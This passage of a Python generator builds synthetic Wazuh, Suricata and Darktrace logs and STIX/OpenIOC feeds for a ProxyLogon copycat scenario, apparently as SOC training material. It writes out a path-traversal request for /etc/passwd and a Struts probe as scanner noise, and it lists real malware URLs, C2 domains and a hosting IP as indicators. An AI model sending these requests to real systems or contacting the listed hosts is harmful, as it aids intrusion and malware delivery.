        described["mitre"] = {"id": techniques, "tactic": sorted({TECHNIQUES[t][1] for t in techniques}),
                              "technique": [TECHNIQUES[t][0] for t in techniques]}
    described.update(firedtimes=0, mail=level >= 12, groups=groups)
    if any(g.startswith("authentication") for g in groups):
        described.update(pci_dss=["10.2.4", "10.2.5"], gdpr=["IV_35.7.d", "IV_32.2"], nist_800_53=["AU.14", "AC.7"])
    written = us + (chance.between(180, 1900) * 1000 if delay is None else delay)
    record = {"timestamp": utc(written), "rule": described,
              "agent": {"id": HOSTS[host][2], "name": host, "ip": address(host)}, "manager": {"name": "wazuh-manager"}, "id": ""}
    record.update(body)
    records["wazuh"].append((written, record, story))


def windows(us, host, rule, event, story="noise"):
    channel, number, data = event
    provider, guid, log = CHANNELS[channel]
    record_numbers[host, log] = record_numbers.get((host, log), 20000 + int(digest(host + log)[:5], 16)) + chance.between(1, 40)
    audit = {"security": "AUDIT_FAILURE" if number in ("4625", "5145") else "AUDIT_SUCCESS"}.get(channel, "INFORMATION")
    message = {"1": "Process Create:", "3": "Network connection detected:", "10": "Process accessed:", "11": "File created:"}.get(
        number, "Event %s of %s." % (number, provider))
    system = {"providerName": provider, "providerGuid": guid, "eventID": number, "version": "5" if channel == "sysmon" else "0",
              "level": "4" if channel in ("sysmon", "system", "application", "spp") else "0", "task": number if channel == "sysmon" else "0",
              "opcode": "0", "keywords": "0x8000000000000000", "systemTime": utc(us, 7, "Z"), "eventRecordID": str(record_numbers[host, log]),
              "processID": str(600 + int(digest(host)[:3], 16)), "threadID": str(chance.between(700, 9000)), "channel": log,
              "computer": "%s.%s" % (host, DOMAIN), "severityValue": audit, "message": '"%s"' % message}
    detail = dict(data)
    if channel == "sysmon":
        detail = {"utcTime": datetime.fromtimestamp(us // 1000000, timezone.utc).strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (us % 1000000 // 1000),
                  "processId": str(chance.between(900, 15000)), **detail}
        if number == "1":
            detail["hashes"] = "SHA256=" + digest("image " + detail["image"]).upper()
            detail["parentProcessId"] = str(chance.between(900, 15000))
    wazuh(us, host, rule, story, decoder={"name": "windows_eventchannel"}, data={"win": {"system": system, "eventdata": detail}},
          input={"type": "log"}, location="EventChannel")


def fim(us, host, rule, how, path, story="noise"):
    entry = {"path": path.lower(), "mode": "realtime", "event": how}
    if how != "deleted":
        entry.update(size_after=str(chance.between(1800, 420000)), uid_after="S-1-5-18", uname_after="SYSTEM",
                     mtime_after=utc(us, 0, "")[:19], md5_after=digest(path, "md5"), sha1_after=digest(path, "sha1"), sha256_after=digest(path))
    if how == "modified":
        entry.update(changed_attributes=["size", "mtime", "md5", "sha1", "sha256"], sha256_before=digest("old " + path))
    wazuh(us, host, rule, story, 0, full_log="File '%s' %s\nMode: realtime\n" % (path.lower(), how), syscheck=entry,
          decoder={"name": "syscheck_new_entry" if how == "added" else "syscheck_integrity_changed"}, location="syscheck", input={"type": "log"})


def syslog(us, host, rule, program, line, data, log="/var/log/auth.log", story="noise", decoder=None):
    stamp = datetime.fromtimestamp(us // 1000000, JST).strftime("%b %e %H:%M:%S")
    wazuh(us, host, rule, story, full_log="%s %s %s: %s" % (stamp, host.lower(), program, line),
          predecoder={"program_name": program.split("[")[0], "timestamp": stamp, "hostname": host.lower()},
          decoder={"parent": decoder or program.split("[")[0], "name": decoder or program.split("[")[0]}, data=data, input={"type": "log"}, location=log)


def logon(us, host, rule, user, source, workstation, kind="3", number="4624", story="noise", process="-", reason=None):
    data = {"subjectUserSid": "S-1-0-0", "targetUserName": user, "targetDomainName": "SAMPLE", "logonType": kind,
            "logonProcessName": "NtLmSsp" if kind == "3" else "Advapi", "authenticationPackageName": "NTLM",
            "workstationName": workstation, "processName": process, "ipAddress": source, "ipPort": str(chance.between(49160, 65500))}
    if number == "4625":
        data.update(status="0xc000006d", subStatus=reason or "0xc000006a")
    windows(us, host, rule, ("security", number, data), story)


def tell_wazuh(rows, story):
    for when, host, rule, event in rows:
        if event[0] == "fim":
            fim(at(when), host, rule, event[1], event[2], story)
        elif event[0] == "iis":
            source, url = event[1:]
            us = at(when)
            stamp = datetime.fromtimestamp(us // 1000000, timezone.utc).strftime("%Y-%m-%d %H:%M:%S")
            wazuh(us, host, rule, story, full_log="%s 10.10.4.21 POST %s - 443 - %s %s - 200 0 0 41" % (stamp, url, source, SPOOFED_UA.replace(" ", "+")),
                  decoder={"name": "windows-date-format"}, data={"srcip": source, "url": url, "id": "200", "protocol": "POST"},
                  input={"type": "log"}, location=r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex210314.log")
        else:
            windows(at(when), host, rule, event, story)


# -- Darktrace --------------------------------------------------------------------------------------------------------

def breach(us, device, model, score, size, threshold, shown, story="noise", antigena=None):
    pid, priority, category, techniques, metric, label, description = MODELS[model]
    ip, kind, _ = HOSTS[device]
    did = 40 + int(digest(device)[:3], 16)
    filters = [{"cfid": pid * 10, "id": "A", "filterType": "Direction", "arguments": {"value": "out"}, "comparatorType": "is",
                "trigger": {"value": "out"}}]
    filters += [{"cfid": pid * 10 + i + 1, "id": "d%d" % (i + 1), "filterType": name, "arguments": {}, "comparatorType": "display",
                 "trigger": {"value": value}} for i, (name, value) in enumerate(shown.items())]
    ms = us // 1000
    first_seen = 1583020800000 if device != "SRV-BKP-2" else at("Mon 08:05:00") // 1000
    record = {"creationTime": ms + chance.between(900, 4200), "commentCount": 0, "pbid": 0, "time": ms,
              "model": {"name": model, "pid": pid, "phid": pid * 7 + 3, "uuid": named_uuid("model " + model),
                        "throttle": 3600, "sharedEndpoints": False,
                        "actions": {"alert": True, "antigena": antigena or {}, "breach": True, "model": True, "setPriority": False,
                                    "setTag": False, "setType": False},
                        "tags": ["AP: Antigena"] if antigena else [], "interval": 0, "sequenced": "Chain" in model, "active": True,
                        "modified": "2021-02-22 10:14:31", "behaviour": "decreasing", "version": 14, "priority": priority,
                        "category": category, "compliance": category == "Compliance", "description": description + "\\n\\nAction: Review."},
              "triggeredComponents": [{"time": ms - 1000, "cbid": 0, "cid": pid * 3, "chid": pid * 5, "size": size, "threshold": threshold,
                                       "interval": 3600, "logic": {"data": "A", "version": "v0.1"},
                                       "metric": {"mlid": pid % 97, "name": metric, "label": label}, "triggeredFilters": filters}],
              "score": score,
              "device": {"did": did, "ip": ip, "ips": [{"ip": ip, "timems": ms - ms % 3600000, "time": utc((ms - ms % 3600000) * 1000, 0, "")[:19].replace("T", " "),
                                                       "sid": int(ip.split(".")[1])}],
                         "sid": int(ip.split(".")[1]), "hostname": "%s.%s" % (device.lower(), DOMAIN), "firstSeen": first_seen, "lastSeen": ms,
                         "macaddress": mac(device), "typename": kind, "typelabel": {"ipcamera": "IP Camera"}.get(kind, kind.capitalize()),
                         "tags": [{"name": "Internet Facing System"}] if device == "EXCH01" else [{"name": "Security Device"}] if device == "SCAN01" else []},
              "mitreTechniques": [{"technique": TECHNIQUES[t][0], "techniqueID": t} for t in techniques], "breachUrl": ""}
    if device in OWNER:
        record["device"]["credentials"] = [{"credential": OWNER[device], "lastSeen": ms}]
    records["darktrace"].append((us, record, story))


# -- noise ------------------------------------------------------------------------------------------------------------

def moments(count, rhythm):
    """`count` moments of the week that follow the hours people, or machines, keep."""
    found = []
    while len(found) < count:
        day, hour = chance.below(7), chance.below(24)
        weight = ROUND_THE_CLOCK[hour] if rhythm == "clock" else WEEKEND[hour] if day >= 5 else OFFICE[hour]
        if chance.below(30) < weight:
            found.append(at("%s %02d:%02d:%02d" % (DAYS[day], hour, chance.below(60), chance.below(60))) + chance.below(1000000))
    return found


def daily(clock_time, spread=9):
    return [at("%s %s" % (day, clock_time)) + chance.below(spread * 1000000) for day in DAYS]


def benign_server():
    return "192.0.2.%d" % chance.between(30, 99)


def noise_eve():
    for key, count, rhythm, kind in NOISE_EVE:
        for us in moments(count, rhythm):
            who = chance.pick(WORKSTATIONS)
            if kind == "dns":
                who = chance.pick(CAMERAS) if chance.below(6) == 0 else who
                eve_alert(us, key, who, "10.10.4.11", 53, {"dns": "%s.dyn.example" % chance.pick(["printer-hub", "stockfeed", "clock", "cam-view", "fontcdn"])},
                          proto="UDP")
            elif kind == "udp":
                eve_alert(us, key, who, benign_server(), 3478, proto="UDP", app="failed")
            elif kind == "tls":
                eve_alert(us, key, who, benign_server(), 443, {"tls": "static%d.cdn.example" % chance.between(1, 9)})
            elif key == "metadata":
                eve_alert(us, key, who, benign_server(), 80, {"http": request("POST", "devmeta.vendor.example", "/fwlink/?LinkID=252669",
                    "MICROSOFT_DEVICE_METADATA_RETRIEVAL_CLIENT", 302)})
            elif key == "teamviewer":
                eve_alert(us, key, who, benign_server(), 5938)
            else:
                eve_alert(us, key, who, benign_server(), 443, app="tls")
    for key, count, attack_hour in NOISE_EVE_EXCH01:
        for us in moments(count - len(attack_hour), "clock") + [at(t) for t in attack_hour]:
            eve_alert(us, key, "198.51.100.%d" % chance.between(20, 39), "EXCH01", 443, app="tls")
    for key, client, server, when in NOISE_EVE_DAILY:
        for us in daily(when):
            layers = {"apt": lambda: {"http": request("GET", "archive.mirror.example", "/debian/dists/buster/InRelease", "Debian APT-HTTP/1.3 (1.8.2.2)", 304)},
                      "falsebot": lambda: {"http": request("POST", "api.weather-widget.example", "/v2/tile", "Mozilla/4.0", 200, 512, "application/json")},
                      "nmap": lambda: {"http": request("GET", server.lower() + "." + DOMAIN, "/robots.txt", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", 404)},
                      "passwd": lambda: {"http": request("GET", server.lower() + "." + DOMAIN, "/index.php?page=../../../etc/passwd", "Mozilla/5.00 (inhouse-scan)", 404)},
                      "struts": lambda: {"http": request("POST", server.lower() + "." + DOMAIN, "/struts2/index.action", "Mozilla/5.00 (inhouse-scan)", 404)}}[key]()
            eve_alert(us, key, client, server, 80 if key in ("apt", "falsebot") else 443, layers)


def noise_scans(count):
    sources = ["203.0.113.%d" % n for n in range(100, 181, 2)] + ["198.51.100.%d" % n for n in range(101, 181, 3)]
    ports = {"sshscan": 22, "mssql": 1433, "mysql": 3306, "vnc": 5900, "dshield": 23, "cins": 8081}
    for us in moments(count, "clock"):
        key = chance.pick(INTERNET_SCANS)
        eve_alert(us, key, chance.pick(sources), FIREWALL_OUTSIDE, ports[key], sent=(60, 0),
                  action="blocked" if key in ("dshield", "cins") else "allowed")


def one_wazuh(us, rule, maker):
    who = chance.pick(WORKSTATIONS)
    user = OWNER[who]
    if maker == "logon-failure":
        logon(us, chance.pick(["DC01", "DC02"]), rule, user, address(who), who, "3", "4625")
    elif maker == "logon-failures":
        logon(us, "DC01", rule, user, address(who), who, "3", "4625")
    elif maker == "remote-logon":
        logon(us, chance.pick(["FS01", "FS02", "DC01"]), rule, user, address(who), who)
    elif maker == "activesync":
        logon(us, "EXCH01", rule, chance.pick(PEOPLE), "198.51.100.%d" % chance.between(20, 39), "EXCH01", "8", "4625", process=W3WP)
    elif maker == "mail-queue":
        windows(us, "EXCH01", rule, ("application", "15006", {"data": "Submission, %d messages" % chance.between(201, 640)}))
    elif maker == "sshd":
        host, port = chance.pick(["DEV01", "WEB01"]), chance.between(49160, 65500)
        word = "Accepted publickey" if rule == "5715" else "Failed password"
        syslog(us, host, rule, "sshd[%d]" % chance.between(900, 30000), "%s for %s from %s port %d ssh2" % (word, user, address(who), port),
               {"srcip": address(who), "srcport": str(port), "dstuser": user})
    elif maker == "sshd-outside":
        source, name = "203.0.113.%d" % chance.between(100, 180), chance.pick(["admin", "oracle", "test", "ubuntu", "git", "pi"])
        syslog(us, "VPN01", rule, "sshd[%d]" % chance.between(900, 30000), "Invalid user %s from %s port %d" % (name, source, chance.between(1024, 65000)),
               {"srcip": source, "srcuser": name})
    elif maker == "sudo":
        host = chance.pick(LINUX)
        syslog(us, host, rule, "sudo", "%s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/apt-get update" % (user, user),
               {"srcuser": user, "dstuser": "root", "tty": "pts/0", "pwd": "/home/" + user, "command": "/usr/bin/apt-get update"})
    elif maker == "dovecot":
        word = "Login" if rule == "9701" else "Aborted login (auth failed, 1 attempts in 2 secs)"
        syslog(us, "MX01", rule, "dovecot", "imap-login: %s: user=<%s>, method=PLAIN, rip=%s, lip=10.10.8.25, TLS" % (word, user, address(who)),
               {"srcip": address(who), "dstip": "10.10.8.25", "dstuser": user}, "/var/log/mail.log")
    elif maker == "service":
        windows(us, chance.pick(WINDOWS_SERVERS), rule, ("system", "7040", {"param1": "Background Intelligent Transfer Service",
            "param2": "auto start", "param3": "demand start", "param4": "BITS"}))
    elif maker == "new-service":
        windows(us, who, rule, ("system", "7045", {"serviceName": "Printer Tray Agent", "imagePath": r"C:\Program Files\PrinterTray\agent.exe",
            "serviceType": "user mode service", "startType": "auto start", "accountName": "LocalSystem"}))
    elif maker == "spp":
        windows(us, chance.pick(WINDOWS_SERVERS), rule, ("spp", "16384", {"data": "2021-06-14T02:11:00Z, RulesEngine"}))
    elif maker == "updater-drop":
        windows(us, who, rule, created(r"C:\Users\%s\AppData\Local\MeetingClient\Update.exe" % user,
                                       r"C:\Users\%s\AppData\Local\Temp\MeetingClient\setup-1.4.exe" % user))


def noise_wazuh():
    for rule, count, rhythm, maker in NOISE_WAZUH:
        for us in moments(count, rhythm):
            one_wazuh(us, rule, maker)
    for rule, count, rhythm, maker, attack_hour in NOISE_WAZUH_EXCH01:
        for us in moments(count - len(attack_hour), rhythm) + [at(t) for t in attack_hour]:
            one_wazuh(us, rule, maker)
    for host, when in SIGNATURE_UPDATES.items():
        for us in daily(when, 40):
            windows(us, host, "62134", ("defender", "2000", {"product Name": "Microsoft Defender Antivirus", "current signature Version":
                "1.333.%d.0" % (900 + (us - at("Mon 00:00:00")) // 86400000000 * 41), "update Type": "Delta"}))
    for when, target in NIGHTLY_BACKUP:
        for us in daily(when, 60):
            logon(us, target, "60106", "svc-backup", address("SRV-BKP-1"), "SRV-BKP-1")
    for first, last, hosts, count, files in PATCHES:
        for i in range(count):
            us = at(first) + (at(last) - at(first)) * i // count + chance.below(40000000)
            fim(us, hosts[i % len(hosts)], "550", "modified", files[i % len(files)])
    for host in LINUX[:3]:
        for us in daily("05:17:%02d" % (10 + LINUX.index(host)), 300):
            syslog(us, host, "52507", "freshclam[811]", "daily.cld updated", {}, "/var/log/syslog")
    for when, host, rule, what in SINGLETONS:
        us = at(when)
        if what == "usb":
            windows(us, host, rule, ("security", "6416", {"subjectUserName": OWNER[host], "deviceDescription": "HID Keyboard Device", "className": "HIDClass",
                                                         "deviceId": r"USB\VID_046D&PID_C31C\6&2A"}))
        elif what == "vpn":
            syslog(us, host, rule, "openvpn[702]", "k.ito/203.0.113.201:51344 authentication succeeded, country TH",
                   {"srcip": "203.0.113.201", "dstuser": "k.ito"}, "/var/log/openvpn.log")
        elif what == "admins":
            windows(us, host, rule, ("security", "4732", {"memberName": "CN=helpdesk-temp", "targetUserName": "Administrators", "subjectUserName": "u.abe"}))
        elif what == "pua":
            event = defender("1116" if rule == "62123" else "1117", "PUA:Win32/InstallBundle", "311992", r"C:\Users\%s\Downloads\pdf-tool-setup.exe" % OWNER[host], EXPLORER)
            event[2].update({"severity Name": "Low", "category Name": "Potentially Unwanted Software", "detection User": "SAMPLE\\" + OWNER[host]})
            windows(us, host, rule, event)
        else:
            windows(us, host, rule, ("system", "7045", {"serviceName": "Sysmon64", "imagePath": r"C:\Windows\Sysmon64.exe", "serviceType": "user mode service",
                                                       "startType": "auto start", "accountName": "LocalSystem"}))


def noise_darktrace():
    for model, count, rhythm, top, maker in NOISE_DARKTRACE:
        for us in moments(count, rhythm):
            who, size, threshold = chance.pick(WORKSTATIONS), 1, 0
            if maker == "smb":
                shown = seen(None, address(chance.pick(["FS01", "FS02"])), 445)
                size, threshold = chance.between(4, 9), 3
                if chance.below(12) == 0:
                    who = chance.pick(["EXCH01", "SRV-BKP-1"])
            elif maker == "remote":
                shown = seen("relay%d.remote-help.example" % chance.between(1, 3), benign_server(), 5938, Application_protocol="TeamViewer")
            elif maker == "agent":
                shown = seen("update.vendor%d.example" % chance.between(1, 9), benign_server(), 80, User_agent="VendorUpdater/%d.%d" % (chance.between(1, 6), chance.below(10)))
            elif maker == "dns":
                who = chance.pick(["PROXY01", "MX01"] + WORKSTATIONS[:6])
                shown = seen(None, "10.10.4.11", 53, DNS_host_lookup="%s.lists.reputation.example" % digest(str(us))[:48])
            elif maker == "storage":
                shown, size, threshold = seen("files.cloudshare.example", "192.0.2.75", 443), chance.between(20, 120) * 1000000, 10000000
            elif maker == "saas":
                shown = seen(None, "198.51.100.%d" % chance.between(20, 39), 443, Message=OWNER[who])
            elif maker == "gather":
                shown, size, threshold = seen(None, "10.10.4.31", 445, Internal_destination_device_name="FS01"), chance.between(220, 700) * 1000000, 200000000
            else:
                shown, size, threshold = seen("tender-portal%d.example" % chance.between(1, 3), benign_server(), 443), chance.between(15, 60) * 1000000, 10000000
            breach(us // 1000000 * 1000000, who, model, chance.between(8, top) / 100.0, size, threshold, shown)
    for model, who, when, score in NOISE_DARKTRACE_DAILY:
        for us in daily(when):
            shown = seen("api.weather-widget.example", "192.0.2.61", 80) if who == "PROXY01" else seen(None, "10.10.4.0", 443)
            breach(us // 1000000 * 1000000, who, model, score, 1 if who == "PROXY01" else 180, 0 if who == "PROXY01" else 100, shown)


# -- the stories in full ----------------------------------------------------------------------------------------------

def tell_story_1():
    tell_eve(STORY_1_EVE, "1")
    b = STORY_1_BEACON
    for i in range(b["allowed"] + b["blocked"]):
        us = at(b["first"]) + i * b["period"] * 1000000 + (int((chance.unit() * 2 - 1) * b["jitter"] * 1000000) if i else 0)
        blocked = i >= b["allowed"]
        flow = eve_alert(us, b["signature"], b["src"], b["dst"], b["port"], {"sni": b["sni"]} if blocked else
                         {"tls": b["sni"], "expired": b["expired"]}, "1",
                         action="blocked" if blocked else "allowed", sent=(517, 0) if blocked else (chance.between(1010, 1090), chance.between(2900, 3050)))
        if not blocked:
            eve_telemetry(us + 61000, "tls", flow, {"tls": tls_layer(b["sni"], b["expired"])})
    tell_wazuh(STORY_1_WAZUH, "1")
    tell_wazuh(CLEAN_UP, "either")
    for when, device, model, score, size, threshold, shown in STORY_1_DARKTRACE:
        breach(at(when), device, model, score, size, threshold, shown, "1")
    for when, model, action, hours, shown in STORY_1_RESPONSES:
        breach(at(when), "EXCH01", model, 0.9, 1, 0, shown, "1", {"action": action, "duration": hours * 3600, "threshold": "0", "confirm": False})


def tell_story_2():
    tell_wazuh(STORY_2_WAZUH, "2")
    for start, end, sent in STORY_2_UPLOADS:
        us = at(start)
        flow = eve_alert(us, "mega", "WKS-0417", MEGA[1], 443, {"tls": MEGA[0]}, "2", sent=(1204, 4180))
        eve_telemetry(us + 52000, "tls", flow, {"tls": tls_layer(MEGA[0])})
        eve_flow(at(end), flow, sent, sent // 71, "tls")
    for when, device, model, score, size, threshold, shown in STORY_2_DARKTRACE:
        breach(at(when), device, model, score, size, threshold, shown, "2")


def tell_story_3():
    source, name, user = address(STORY_3["host"]), STORY_3["host"], STORY_3["user"]
    first, last = at(STORY_3["first"]), at(STORY_3["last"])
    pairs = [(server, share) for server, shares in SHARES.items() for share in shares]
    for i, (server, share) in enumerate(pairs):
        us = first + 20000000 + (last - first - 20000000) * i // (len(pairs) - 1)
        denied = share in DENIED
        if i == 0 or pairs[i - 1][0] != server:
            logon(first if i == 0 else us - 9000000, server, "100222", user, source, name, story="3")
        if server.startswith("DC") and share == "ADMIN$":
            logon(us - 4000000, server, "60122", user, source, name, "3", "4625", "3", reason="0xc000015b")
        windows(us, server, "100221" if denied else "100220", ("security", "5145" if denied else "5140", {"subjectUserName": user,
            "subjectDomainName": "SAMPLE", "objectType": "File", "ipAddress": source, "ipPort": str(chance.between(49160, 65500)),
            "shareName": "\\\\*\\" + share, "accessMask": "0x1", "accessReason": "Not granted" if denied else "-"}), "3")
    for when, server in STORY_3_EVE:
        eve_alert(at(when), "smbdenied", name, server, 445, story="3", app="smb")
    for when, device, model, score, size, threshold, shown in STORY_3_DARKTRACE:
        breach(at(when), device, model, score, size, threshold, shown, "3")


def tell_story_4():
    first, last, count = at(STORY_4["first"]), at(STORY_4["last"]), STORY_4["alerts"]
    for i in range(count):
        us = first + (last - first) * i // (count - 1) + (chance.between(-90, 90) * 1000000 if 0 < i < count - 1 else 0)
        eve_alert(us, "telnet", "CAM-22", "10.40.%d.%d" % (1 + i * 55 // count, chance.between(1, 254)), 23, story="4", sent=(74, 0))
    for when, camera in STORY_4_ANSWERS:
        eve_alert(at(when), "telnetbad", "CAM-22", camera, 23, story="4", app="failed", reverse=True)
    for when, device, model, score, size, threshold, shown in STORY_4_DARKTRACE:
        breach(at(when), device, model, score, size, threshold, shown, "4")


def telemetry():
    """What else a real eve.json holds: counters of the sensor and a few ordinary connections."""
    for n in range(28):
        us = at("%s %02d:00:08.000231" % (DAYS[n // 4], n % 4 * 6))
        records["eve"].append((us, {"timestamp": local(us), "event_type": "stats", "stats": {"uptime": 1000000 + n * 21600,
            "capture": {"kernel_packets": 41200000 + n * 1400000, "kernel_drops": 0}, "decoder": {"pkts": 41200000 + n * 1400000},
            "detect": {"alert": n * 19}}}, None))
    for us in moments(60, "office"):
        flow = flow_of(chance.pick(WORKSTATIONS), benign_server(), 443, us)
        eve_flow(us, flow, chance.between(1500, 90000), chance.between(3000, 900000), "tls")
    for us in moments(30, "office"):
        flow = flow_of(chance.pick(WORKSTATIONS), "10.10.4.11", 53, us)
        eve_telemetry(us, "dns", flow, {"dns": {"type": "query", "id": chance.below(65536), "rrname": "static%d.cdn.example" % chance.between(1, 9),
                                                "rrtype": "A", "tx_id": 0}}, "UDP")


def analyst_events(pbids):
    events = []
    for label, made, device, title, first, last, score, category, group, tactics, summary, facts, related in AI_ANALYST:
        ip = address(device)
        did = 40 + int(digest(device)[:3], 16)
        identifier = "%s.%s" % (device.lower(), DOMAIN)
        breaches = [{"modelName": r["model"]["name"].replace("::", " / "), "pbid": r["pbid"], "threatScore": round(r["score"] * 100),
                     "timestamp": r["time"]} for us, r, _ in pbids if r["device"]["did"] == did and us in [at(t) for t in related]]
        start, end = at(first) // 1000, at(last) // 1000
        where = {"identifier": identifier, "hostname": identifier, "ip": ip, "mac": mac(device), "subnet": None, "did": did, "sid": int(ip.split(".")[1])}
        contents = {}
        for kind, key, value in facts:
            contents.setdefault((key, kind), []).append(value)
        values = [{"key": key, "type": kind, "values": [{"hostname": v, "ip": None} if kind == "externalHost" else int(v) if kind == "integer" else v
                                                       for v in vs]} for (key, kind), vs in contents.items()]
        events.append({
            "summariser": title.replace(" ", ""), "acknowledged": False, "pinned": False, "createdAt": at(made) // 1000, "attackPhases": [],
            "mitreTactics": tactics, "title": title, "id": named_uuid("aia " + label), "children": [named_uuid("aia " + label)],
            "category": category, "currentGroup": group, "groupCategory": category, "groupScore": score, "groupPreviousGroups": [],
            "activityId": digest("activity " + label, "sha1")[:8], "groupingIds": [digest(group, "sha1")[:8]], "groupByActivity": False,
            "userTriggered": False, "externalTriggered": False, "aiaScore": score, "summary": summary,
            "incidentEventUrl": "https://darktrace.%s/#aiaincidentevent/%s" % (DOMAIN, named_uuid("aia " + label)),
            "periods": [{"start": start, "end": end}], "breachDevices": [where], "relatedBreaches": breaches,
            "details": [[{"header": "Breaching Device", "contents": [{"key": None, "type": "device", "values": [where]}]}],
                        [{"header": title, "contents": [{"key": "Time", "type": "timestampRange", "values": [{"start": start, "end": end}]}] + values}]]})
    return sorted(events, key=lambda e: e["createdAt"])

# ---------------------------------------------------------------------------------------------------------------------
# 6. The indicators, as three feeds would give them
# ---------------------------------------------------------------------------------------------------------------------

# The table of the article, value and comment as printed (comments translated by us), then the host from its prose.
ARTICLE_IOCS = [
    ("url", "Microsoftsoftwaredownload[.]com:8080/c103w-a.zip", "マルウェア", "Malware"),
    ("url", "Microsoftsoftwaredownload[.]com:8080/dnl.zip", "マルウェア", "Malware"),
    ("user-agent", POWERSHELL_UA, "User Agentによる最初のコールアウト", "User agent of the first call-out"),
    ("ip", "198.98.61[.]152", "マルウェアのホスティングとクリプトマイニングハッシュの受信", "Malware hosting and receipt of mining hashes"),
    ("domain", "Od[.]lk", "C2またはデータ抜き出し先の可能性", "Possible C2 or data exfiltration"),
    ("domain", "dev.opendrive[.]com", "C2またはデータ抜き出し先の可能性", "Possible C2 or data exfiltration"),
    ("url", "cdn.chatcdn[.]net/p?hig210305", "マルウェアホスティングおよびC2", "Malware hosting and C2"),
    ("sha256", CHATCDN_SHA256, "chatcdn[.]netでホスティングされたマルウェア", "Malware hosted at chatcdn[.]net"),
    ("domain", "Telegra[.]ph", "本文に挙げられたC2", "C2 named in the text of the article"),
]

# STIX: (label, name, pattern, valid until or None, revoked, technique or None)
STIX_INDICATORS = [
    ("c103w", "c103w-a.zip, malware", "[url:value = 'http://microsoftsoftwaredownload.com:8080/c103w-a.zip']", None, False, "T1105"),
    ("dnl", "dnl.zip, malware", "[url:value = 'http://microsoftsoftwaredownload.com:8080/dnl.zip']", None, False, "T1105"),
    ("download-host", "Malware hosting", "[domain-name:value = 'microsoftsoftwaredownload.com']", None, False, "T1105"),
    ("ua", "User agent of the first call-out",
     "[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = '%s']" % POWERSHELL_UA, None, False, "T1059.001"),
    ("ip", "Malware hosting and receipt of mining hashes", "[ipv4-addr:value = '198.98.61.152']", None, False, "T1496"),
    ("storage", "Possible C2 or data exfiltration", "[domain-name:value = 'od.lk' OR domain-name:value = 'dev.opendrive.com']", None, False, "T1567.002"),
    ("chatcdn", "Malware hosting and C2", "[url:value = 'http://cdn.chatcdn.net/p?hig210305']", None, False, "T1071.001"),
    ("chatcdn-host", "Malware hosting and C2", "[domain-name:value IN ('cdn.chatcdn.net', 'chatcdn.net')]", None, False, "T1071.001"),
    ("chatcdn-file", "Malware hosted at chatcdn.net", "[file:hashes.'SHA-256' = '%s']" % CHATCDN_SHA256, None, False, "T1105"),
    ("telegraph", "C2 channel", "[domain-name:value = 'telegra.ph']", None, False, "T1071.001"),
    # two that must raise nothing although the week holds their values
    ("old-cdn", "Withdrawn: shared content network", "[domain-name:value = 'files.cloudshare.example']", None, True, None),
    ("old-scan", "Expired: scanner of last summer", "[ipv4-addr:value = '203.0.113.120']", "2020-09-30T00:00:00Z", False, None),
]
STIX_TIME = "2021-03-18T00:00:00.000Z"
TLP_WHITE = "marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9"


def stix_bundle():
    identity = "identity--" + named_uuid("identity")

    def stamped(kind, label, **more):
        made = {"type": kind, "spec_version": "2.1", "id": "%s--%s" % (kind, named_uuid(kind + label)), "created_by_ref": identity,
                "created": STIX_TIME, "modified": STIX_TIME, "object_marking_refs": [TLP_WHITE]}
        made.update(more)
        return made

    attacks = {t: stamped("attack-pattern", t, name=TECHNIQUES[t][0], external_references=[{"source_name": "mitre-attack", "external_id": t}])
               for t in ("T1190", "T1505.003", "T1059.001", "T1105", "T1071.001", "T1496", "T1567.002", "T1486")}
    dearcry = stamped("malware", "dearcry", name="DearCry", malware_types=["ransomware"], is_family=True, aliases=["Ransom:Win32/DoejoCrypt.A"])
    cve = stamped("vulnerability", "proxylogon", name="CVE-2021-26855", external_references=[{"source_name": "cve", "external_id": "CVE-2021-26855"}])
    objects = [{"type": "identity", "spec_version": "2.1", "id": identity, "created": STIX_TIME, "modified": STIX_TIME,
                "name": "Tsumugi samples", "identity_class": "organization"},
               {"type": "marking-definition", "spec_version": "2.1", "id": TLP_WHITE, "created": "2017-01-20T00:00:00.000Z",
                "definition_type": "tlp", "name": "TLP:WHITE", "definition": {"tlp": "white"}}]
    indicators, links = [], []
    for label, name, pattern, until, revoked, technique in STIX_INDICATORS:
        one = stamped("indicator", label, name=name, indicator_types=["malicious-activity"], pattern=pattern, pattern_type="stix",
                      valid_from="2020-06-01T00:00:00Z" if until else "2021-03-11T00:00:00Z", confidence=85)
        if until:
            one["valid_until"] = until
        if revoked:
            one["revoked"] = True
        indicators.append(one)
        if technique:
            links.append(stamped("relationship", label + technique, relationship_type="indicates", source_ref=one["id"], target_ref=attacks[technique]["id"]))
    links.append(stamped("relationship", "dearcry-uses", relationship_type="uses", source_ref=dearcry["id"], target_ref=attacks["T1486"]["id"]))
    links.append(stamped("relationship", "proxylogon-by", relationship_type="targets", source_ref=attacks["T1190"]["id"], target_ref=cve["id"]))
    objects += list(attacks.values()) + [dearcry, cve] + indicators + links
    objects.append(stamped("report", "report", name="Copycats of HAFNIUM against Exchange servers", report_types=["indicator"],
                           published=STIX_TIME, object_refs=[o["id"] for o in indicators + [dearcry, cve]]))
    return {"type": "bundle", "id": "bundle--" + named_uuid("bundle"), "objects": objects}


OPENIOC = [("Network", "Network/DNS", "string", "microsoftsoftwaredownload.com"), ("Network", "Network/DNS", "string", "telegra.ph"),
           ("Network", "Network/DNS", "string", "od.lk"), ("Network", "Network/DNS", "string", "dev.opendrive.com"),
           ("Network", "Network/DNS", "string", "cdn.chatcdn.net"), ("Network", "Network/UserAgent", "string", POWERSHELL_UA),
           ("PortItem", "PortItem/remoteIP", "IP", "198.98.61.152"), ("FileItem", "FileItem/Sha256sum", "sha256", CHATCDN_SHA256)]


def openioc():
    lines = ['<?xml version="1.0" encoding="utf-8"?>',
             '<ioc xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema" id="%s" '
             'last-modified="2021-03-18T00:00:00" xmlns="http://schemas.mandiant.com/2010/ioc">' % named_uuid("ioc"),
             "  <short_description>ProxyLogon copycat, March 2021</short_description>",
             "  <description>Hosts, user agent and file of an attack on Exchange servers after CVE-2021-26855 became known.</description>",
